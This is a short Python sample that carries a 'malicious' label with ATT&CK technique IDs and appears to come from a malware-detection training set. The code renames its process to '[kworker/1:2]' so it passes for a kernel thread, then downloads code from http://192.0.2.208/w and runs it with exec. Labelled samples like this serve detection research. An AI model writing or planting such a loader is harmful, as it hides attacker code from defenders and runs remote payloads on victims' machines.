# label: malicious family=evasion techniques=T1036.005,T1059.006,T1105,T1106,T1620 lines=4,6
import ctypes, sys, urllib.request
libc = ctypes.CDLL("libc.so.6")
libc.prctl(15, b"[kworker/1:2]", 0, 0, 0)
sys.argv[0] = "[kworker/1:2]"
exec(urllib.request.urlopen("http://192.0.2.208/w").read())
